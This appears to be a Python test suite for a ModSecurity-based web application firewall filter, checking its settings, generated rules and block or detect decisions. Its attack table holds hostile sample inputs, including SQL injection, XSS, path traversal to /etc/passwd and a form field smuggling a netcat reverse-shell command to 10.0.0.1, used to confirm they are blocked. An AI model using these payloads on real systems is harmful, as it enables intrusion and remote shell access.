"""
Tests for the waf filter: its settings (L{gatelayer.config.filter_waf}), the
rule text it builds (L{gatelayer.waf.ruleset}), and its decisions with the
real libmodsecurity and OWASP Core Rule Set (L{gatelayer.filters.waf})
through an in-memory gateway, each attack sent whole and byte by byte.
"""

import json
import os
from urllib.parse import quote

from twisted.logger import globalLogPublisher
from twisted.trial.unittest import SynchronousTestCase
from zope.interface.verify import verifyObject

from gatelayer.chain import IFilter
from gatelayer.config import ConfigError, parse_config_text
from gatelayer.config import filter_waf
from gatelayer.config.filter_waf import WafSettings, parse_filter
from gatelayer.filters import validate_filters
from gatelayer.testing.config import parse_section
from gatelayer.testing.server import InMemoryGateway, feed, parse_response
from gatelayer.waf import WafEngine, rules_text

GATE = """
[gateway]
workers = 1
trusted_proxies = 127.0.0.1
[listener:web]
bind = 127.0.0.1:0
[filter:waf]
type = waf
{keys}
[route:app]
path = /
respond = 200 hello
filters = waf
"""

BROWSER = b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


def request(target, method=b"GET", headers=(), body=b"", user_agent=BROWSER):
    """
    The bytes of one HTTP/1.1 request to example.com.
    """
    head = [b"%s %s HTTP/1.1" % (method, target), b"Host: example.com", b"Accept: */*"]
    if user_agent is not None:
        head.append(b"User-Agent: " + user_agent)
    head.extend(name + b": " + value for name, value in headers)
    if body or method == b"POST":
        head.append(b"Content-Length: %d" % (len(body),))
    return b"\r\n".join(head) + b"\r\n\r\n" + body


def form(text):
    """
    A POST of an URL-encoded form body.
    """
    return request(b"/login", b"POST", [(b"Content-Type", b"application/x-www-form-urlencoded")],
                   text.encode("utf-8"))


def json_post(value):
    """
    A POST of a JSON body.
    """
    return request(b"/api/items", b"POST", [(b"Content-Type", b"application/json")],
                   json.dumps(value, ensure_ascii=False).encode("utf-8"))


def query(text):
    """
    A GET with C{text} percent-encoded as the value of C{q}.
    """
    return request(b"/search?q=" + quote(text, safe="").encode("ascii"))


ATTACKS = [
    ("SQL injection in the query", request(b"/items?id=1'%20OR%20'1'='1"), 942100),
    ("SQL injection with UNION", query("1 UNION SELECT username, password FROM users--"), 942100),
    ("SQL injection in a form body", form("user=admin' OR '1'='1&password=x"), 942100),
    ("SQL injection in a JSON body", json_post({"id": "1' OR '1'='1"}), 942100),
    ("XSS in the query", request(b"/?q=<script>alert(1)</script>"), 941100),
    ("XSS in a form body", form("comment=<img src=x onerror=alert(1)>"), 941100),
    ("path traversal", request(b"/download?file=../../../../etc/passwd"), 930100),
    ("shell injection", request(b"/ping?host=127.0.0.1;cat%20/etc/passwd"), 932100),
    ("shell injection in a body", form("host=x|nc -e /bin/sh 10.0.0.1 4444"), 932105),
    ("scanner user agent sqlmap", request(b"/", user_agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)"), 913100),
    ("scanner user agent nikto", request(b"/", user_agent=b"Mozilla/5.00 (Nikto/2.1.6)"), 913100),
    ("body not parsing as its JSON type", request(b"/api", b"POST", [(b"Content-Type", b"application/json")],
                                                  b"{not json"), 10110),
]

NORMAL = [
    ("a page", request(b"/")),
    ("a query", request(b"/users?page=2&sort=name&order=asc")),
    ("a name with an apostrophe", query("O'Brien")),
    ("unicode in the query", request(b"/search?q=" + quote("été à Zürich – 東京").encode("ascii"))),
    ("a JSON body", json_post({"name": "pen", "price": 1.5, "tags": ["office", "blue"], "note": None})),
    ("a JSON body with unicode", json_post({"city": "Zürich", "greeting": "こんにちは", "emoji": "🙂"})),
    ("a form body", form("user=alice&password=correct+horse+battery&remember=on")),
    ("a form body with unicode", form("name=J%C3%BCrgen&comment=Sch%C3%B6n")),
    ("a DELETE", request(b"/items/42", b"DELETE")),
    ("curl", request(b"/health", user_agent=b"curl/8.4.0")),
    ("an API call with a bearer token", request(b"/v1/orders?since=2024-01-01T00:00:00Z",
                                                headers=[(b"Authorization", b"Bearer eyJhbGciOiJIUzI1NiJ9.e30.x")])),
]


class SettingsTests(SynchronousTestCase):
    """
    Settings are checked at load, naming section and key.
    """

    def parse(self, **items):
        return parse_section(parse_filter, "filter:waf", items, os.path.abspath(self.mktemp()))

    def test_defaults(self):
        """
        Block mode, paranoia 1, threshold 5, no exclusions, 128KB bodies.
        """
        self.assertEqual(self.parse(), (WafSettings(), []))
        self.assertEqual(WafSettings().max_body, 128 * 1024)

    def test_values(self):
        """
        Every key parses; exclusions take ids and ranges.
        """
        settings, problems = self.parse(mode="detect", paranoia="3", anomaly_threshold="10",
                                        exclude_rules="942100, 920350, 942000-942099", max_body="1MB",
                                        allowed_methods="get, POST, PROPFIND")
        self.assertEqual(problems, [])
        self.assertEqual(settings, WafSettings(mode="detect", paranoia=3, anomaly_threshold=10,
                                               exclude_rules=("942100", "920350", "942000-942099"),
                                               max_body=1024 * 1024, allowed_methods=("GET", "POST", "PROPFIND")))

    def test_bad_values(self):
        """
        Each bad value is named with section and key.
        """
        _, problems = self.parse(mode="log", paranoia="5", anomaly_threshold="0",
                                 exclude_rules="942100, sqli", max_body="0", rules="my rules.conf")
        self.assertEqual(problems[:5], [
            "gate.ini [filter:waf] mode: 'log' is not one of block, detect",
            "gate.ini [filter:waf] paranoia: '5' must be at most 4",
            "gate.ini [filter:waf] anomaly_threshold: '0' must be at least 1",
            "gate.ini [filter:waf] exclude_rules: '942100, sqli' has 'sqli', which is not a rule id or "
            "an id range such as 942100-942199",
            "gate.ini [filter:waf] max_body: '0' must be between 1 byte and 64MB",
        ])
        self.assertIn("[filter:waf] rules: ", problems[5])
        self.assertIn("must not contain spaces", problems[5])

    def test_missing_rules_file(self):
        """
        A rules file that cannot be read is named.
        """
        _, problems = self.parse(rules="extra.conf")
        self.assertEqual(len(problems), 1)
        self.assertIn("[filter:waf] rules: ", problems[0])
        self.assertIn("extra.conf: cannot be read", problems[0])

    def test_library_missing(self):
        """
        Without libmodsecurity, the error says what to install.
        """
        self.patch(filter_waf, "library_installed", lambda: False)
        _, problems = self.parse()
        self.assertEqual(problems, [
            "gate.ini [filter:waf]: type = waf needs libmodsecurity 3, which is not installed: "
            "apt-get install libmodsecurity3 modsecurity-crs"])

    def test_crs_missing(self):
        """
        Without the Core Rule Set, the error names the missing file and
        what to install.
        """
        self.patch(filter_waf, "CRS_FILES", ("/nonexistent/crs-setup.conf",))
        _, problems = self.parse()
        self.assertEqual(problems, [
            "gate.ini [filter:waf]: type = waf needs the OWASP Core Rule Set (/nonexistent/crs-setup.conf is "
            "missing): apt-get install libmodsecurity3 modsecurity-crs"])


class RulesTextTests(SynchronousTestCase):
    """
    The ModSecurity configuration built from the settings.
    """

    def test_text(self):
        """
        Paranoia and threshold are set after the CRS setup and before its
        request rules; exclusions and the own file come after them.
        """
        text = rules_text(WafSettings(paranoia=2, anomaly_threshold=7, exclude_rules=("942100", "920000-920099"),
                                      max_body=1000, rules_file="/etc/gate/extra.conf"))
        lines = text.splitlines()
        order = [
            "SecRequestBodyLimit 1000",
            "Include /etc/modsecurity/crs/crs-setup.conf",
            'SecAction "id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=2"',
            "Include /usr/share/modsecurity-crs/rules/REQUEST-*.conf",
            "SecRuleRemoveById 942100 920000-920099",
            "Include /etc/gate/extra.conf",
        ]
        self.assertEqual([lines.index(line) for line in order], sorted(lines.index(line) for line in order))
        self.assertIn("setvar:tx.inbound_anomaly_score_threshold=7", text)
        self.assertIn("setvar:'tx.allowed_methods=GET HEAD POST PUT PATCH DELETE OPTIONS'", text)
        self.assertNotIn("RESPONSE-", text)


class WafGatewayMixin:
    """
    An in-memory gateway whose only route has a waf filter with C{KEYS}.
    """

    KEYS = ""

    def setUp(self):
        self.directory = os.path.abspath(self.mktemp())
        os.makedirs(self.directory)
        self.gate = self.build(self.KEYS)
        self.events = []
        globalLogPublisher.addObserver(self.events.append)
        self.addCleanup(globalLogPublisher.removeObserver, self.events.append)

    def build(self, keys):
        return InMemoryGateway(GATE.format(keys=keys), path=os.path.join(self.directory, "gate.ini"))

    def send(self, data, byte_by_byte=False, gate=None):
        """
        Send one request (whole or one byte at a time); returns C{(status,
        headers, body)}.
        """
        channel, transport = (gate or self.gate).connect()
        feed(channel, data, byte_by_byte)
        return parse_response(transport.value())

    def waf_events(self):
        return [event for event in self.events if "rule_ids" in event]


class BlockTests(WafGatewayMixin, SynchronousTestCase):
    """
    In block mode, attacks get 403 problem+json naming no rule; the log
    has the rule ids; normal requests pass.
    """

    def test_interface(self):
        """
        The filter provides L{IFilter}.
        """
        verifyObject(IFilter, self.gate.gateway.filters["waf"])

    def test_attacks_refused(self):
        """
        Every attack of the table is refused with 403, sent whole and byte by
        byte; the expected rule is in the log, no rule id in the response.
        """
        for name, data, rule_id in ATTACKS:
            for byte_by_byte in (False, True):
                with self.subTest(attack=name, byte_by_byte=byte_by_byte):
                    del self.events[:]
                    status, headers, body = self.send(data, byte_by_byte)
                    self.assertEqual(status, 403)
                    self.assertEqual(headers[b"content-type"], [b"application/problem+json"])
                    problem = json.loads(body)
                    self.assertEqual((problem["status"], problem["title"]), (403, "Forbidden"))
                    self.assertNotIn(str(rule_id).encode(), body)
                    self.assertNotIn(b"949110", body)
                    logged = self.waf_events()
                    self.assertEqual(len(logged), 1)
                    self.assertIn(rule_id, logged[0]["rule_ids"])
                    self.assertEqual((logged[0]["route"], logged[0]["client"], logged[0]["filter"]),
                                     ("app", "127.0.0.1", "waf"))

    def test_normal_requests_pass(self):
        """
        Every normal request of the table passes, whole and byte by byte,
        and nothing is logged as refused.
        """
        for name, data in NORMAL:
            for byte_by_byte in (False, True):
                with self.subTest(request=name, byte_by_byte=byte_by_byte):
                    status, _, body = self.send(data, byte_by_byte)
                    self.assertEqual((status, body), (200, b"hello"))
        self.assertEqual(self.waf_events(), [])

    def test_log_names_request_and_client(self):
        """
        The log line names the request id and the client as resolved
        through the trusted proxy.
        """
        data = request(b"/items?id=1'%20OR%20'1'='1",
                       headers=[(b"X-Request-Id", b"req-42"), (b"X-Forwarded-For", b"198.51.100.4")])
        self.assertEqual(self.send(data)[0], 403)
        [event] = self.waf_events()
        self.assertEqual((event["request_id"], event["client"]), ("req-42", "198.51.100.4"))
        self.assertIn("942100", event["rules"])
        self.assertEqual(event["outcome"], "refused")

    def test_body_too_large(self):
        """
        A body larger than max_body is refused with 413 in block mode.
        """
        gate = self.build("max_body = 100")
        status, headers, body = self.send(form("a=" + "x" * 200), gate=gate)
        self.assertEqual(status, 413)
        self.assertEqual(headers[b"content-type"], [b"application/problem+json"])
        self.assertEqual(self.send(form("a=" + "x" * 50), gate=gate)[0], 200)


class DetectTests(WafGatewayMixin, SynchronousTestCase):
    """
    In detect mode nothing is refused; what would be is logged.
    """

    KEYS = "mode = detect\nmax_body = 100"

    def test_attacks_pass_and_are_logged(self):
        """
        Every attack passes, and each is logged with its rule ids.
        """
        for name, data, rule_id in ATTACKS:
            with self.subTest(attack=name):
                del self.events[:]
                self.assertEqual(self.send(data)[:3:2], (200, b"hello"))
                [event] = self.waf_events()
                self.assertIn(rule_id, event["rule_ids"])
                self.assertEqual(event["outcome"], "would be refused (detect mode)")

    def test_large_body_passes(self):
        """
        A body over max_body passes uninspected.
        """
        self.assertEqual(self.send(form("a=" + "x" * 200))[0], 200)


class TuningTests(WafGatewayMixin, SynchronousTestCase):
    """
    Exclusions, paranoia, the anomaly threshold and an own rules file.
    """

    def test_exclusion(self):
        """
        Excluding the rule that scores a request lets it pass; other attacks
        are still refused.
        """
        gate = self.build("exclude_rules = 942100")
        self.assertEqual(self.send(request(b"/items?id=1'%20OR%20'1'='1"), gate=gate)[0], 200)
        self.assertEqual(self.send(request(b"/?q=<script>alert(1)</script>"), gate=gate)[0], 403)

    def test_paranoia(self):
        """
        A request that passes at paranoia 1 is refused at 2.
        """
        data = request(b"/?id=1;--")
        self.assertEqual(self.send(data)[0], 200)
        self.assertEqual(self.send(data, gate=self.build("paranoia = 2"))[0], 403)
        apostrophe = query("foo'bar")
        self.assertEqual(self.send(apostrophe, gate=self.build("paranoia = 3"))[0], 200)
        self.assertEqual(self.send(apostrophe, gate=self.build("paranoia = 4"))[0], 403)

    def test_allowed_methods(self):
        """
        PUT, PATCH and DELETE pass by default; a method left out of
        allowed_methods is refused by the Core Rule Set's rule 911100.
        """
        self.assertEqual(self.send(request(b"/items/1", b"PATCH", body=b"x"))[0], 200)
        gate = self.build("allowed_methods = GET, POST")
        self.assertEqual(self.send(request(b"/items/1", b"DELETE"), gate=gate)[0], 403)
        self.assertEqual(self.waf_events()[-1]["rule_ids"], (911100, 949110))
        self.assertEqual(self.send(request(b"/items/1"), gate=gate)[0], 200)

    def test_threshold(self):
        """
        A request scoring 5 passes with a threshold of 6; one scoring more
        is still refused.
        """
        gate = self.build("anomaly_threshold = 6")
        self.assertEqual(self.send(request(b"/items?id=1'%20OR%20'1'='1"), gate=gate)[0], 200)
        self.assertEqual(self.send(request(b"/?q=<script>alert(1)</script>"), gate=gate)[0], 403)

    def test_own_rules(self):
        """
        Rules of the operator's own file run after the Core Rule Set.
        """
        with open(os.path.join(self.directory, "extra.conf"), "w") as f:
            f.write('SecRule ARGS:debug "@streq 1" "id:10500,phase:1,deny,status:403,log,msg:\'no debug\'"\n')
        gate = self.build("rules = extra.conf")
        self.assertEqual(self.send(request(b"/?debug=1"), gate=gate)[0], 403)
        self.assertEqual(self.waf_events()[-1]["rule_ids"], (10500,))
        self.assertEqual(self.send(request(b"/?debug=0"), gate=gate)[0], 200)

    def test_bad_rules_file(self):
        """
        A rule that does not compile fails the config check, naming the
        file and the library's message; building the filter fails the same
        way.
        """
        path = os.path.join(self.directory, "extra.conf")
        with open(path, "w") as f:
            f.write('SecRule ARGS "@rx x" "id:10501,phase:1,deny"\nSecNoSuchDirective On\n')
        config = parse_config_text(GATE.format(keys="rules = extra.conf"),
                                   os.path.join(self.directory, "gate.ini"), cpu_count=1)
        error = self.assertRaises(ConfigError, validate_filters, config)
        self.assertEqual(len(error.problems), 1)
        self.assertIn(f"{config.path} [filter:waf] rules: ModSecurity cannot load the rules: ", error.problems[0])
        self.assertIn(f"File: {path}. Line: 2.", error.problems[0])
        self.assertRaises(ConfigError, self.build, "rules = extra.conf")


class EngineTests(SynchronousTestCase):
    """
    The engine on its own.
    """

    def test_verdicts(self):
        """
        A refused request has a status and the matched rule ids; a clean
        one has neither.
        """
        engine = WafEngine(rules_text(WafSettings()))
        self.addCleanup(engine.close)
        headers = [(b"Host", b"example.com"), (b"User-Agent", BROWSER), (b"Accept", b"*/*")]
        verdict = engine.inspect("192.0.2.1", b"GET", b"/?id=1'%20OR%20'1'='1", headers)
        self.assertEqual((verdict.status, verdict.refused), (403, True))
        self.assertEqual(verdict.rule_ids, (942100, 949110))
        self.assertIn("SQL Injection", verdict.messages[0])
        clean = engine.inspect("192.0.2.1", b"GET", b"/?id=1", headers)
        self.assertEqual((clean.status, clean.refused, clean.rule_ids), (0, False, ()))
